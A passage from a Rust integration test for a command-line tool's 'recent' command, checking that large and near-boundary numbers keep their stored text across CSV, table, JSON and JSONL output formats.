        "metadata: {skills}"
    );
    assert_eq!(&run[6], format!(r#"{{"weight":{NEAR}}}"#), "other_fields");
    assert_eq!(&rows[0][6], format!(r#"{{"n":{NEAR}}}"#), "a foreign entry");
    for changed in ["e+29", "e29", "0.3,", "0.3}", "100000.0", "-0.0"] {
        assert!(!skills.contains(changed), "{changed} in {skills}");
    }

    let tools = cli
        .run_at(NOW, &["recent", "--user", "alice", "--format", "csv"])
        .success()
        .stdout;
    let row = csv::Reader::from_reader(tools.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap();
    assert_eq!(&row[4], HUGE, "result_chars: {tools}");
    assert_eq!(&row[6], format!(r#"{{"x":{NEAR},"n":{HUGE}}}"#), "args");
    assert_eq!(&row[7], format!(r#"{{"cost":{NEAR}}}"#), "other_fields");

    // The table cuts long cells, but what it shows is the stored text.
    let table = cli
        .run_at(NOW, &["recent", "--skills", "--format", "table"])
        .success()
        .stdout;
    assert!(table.contains(&format!("n={NEAR}")), "{table}");
    assert!(table.contains("1234567…"), "duration_ms cut: {table}");
    assert!(
        !table.contains("1.234") && !table.contains("n=0.3 "),
        "{table}"
    );

    // As the JSON formats keep them.
    for format in ["json", "jsonl"] {
        let out = cli
            .run_at(NOW, &["recent", "--skills", "--format", format])
            .success()
            .stdout;
        assert!(out.contains(HUGE) && out.contains(NEAR), "{format}: {out}");
    }
}
